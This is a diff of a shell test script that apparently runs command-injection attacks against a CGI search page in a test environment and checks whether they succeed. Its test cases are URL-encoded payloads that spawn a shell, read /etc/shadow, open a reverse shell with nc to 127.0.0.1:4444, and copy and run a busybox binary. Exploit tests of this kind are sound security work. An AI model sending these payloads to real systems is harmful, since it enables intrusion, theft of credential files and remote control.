@@ -87,8 +87,9 @@ attack() {
 attack "shell spawned" 'x%20/dev/null;%20sh%20-c%20id'
 attack "/etc/shadow read" 'x%20/dev/null;%20cat%20/etc/shadow'
 attack "reverse shell attempt" 'x%20/dev/null;%20nc%20127.0.0.1%204444%20-e%20/bin/sh'
-# Under its own name, which busybox knows: the dropped copy really runs.
-attack "binary dropped and run" 'x%20/dev/null;%20cp%20/bin/busybox%20/tmp/uname;%20chmod%20755%20/tmp/uname;%20/tmp/uname%20-a'
+# Under its own name, which busybox knows: the dropped copy really runs
+# ("; true" takes the page's trailing argument).
+attack "binary dropped and run" 'x%20/dev/null;%20cp%20/bin/busybox%20/tmp/uname;%20chmod%20755%20/tmp/uname;%20/tmp/uname%20-a;%20true'
 grep -q Linux /tmp/attack.out || fail "the dropped binary did not run: $(head -c 200 /tmp/attack.out)"
 grep -q 'root:\$6\$secret' /tmp/attack.out 2> /dev/null ||
 	get '/cgi-bin/search?x%20/dev/null;%20cat%20/etc/shadow' | grep -q secret ||
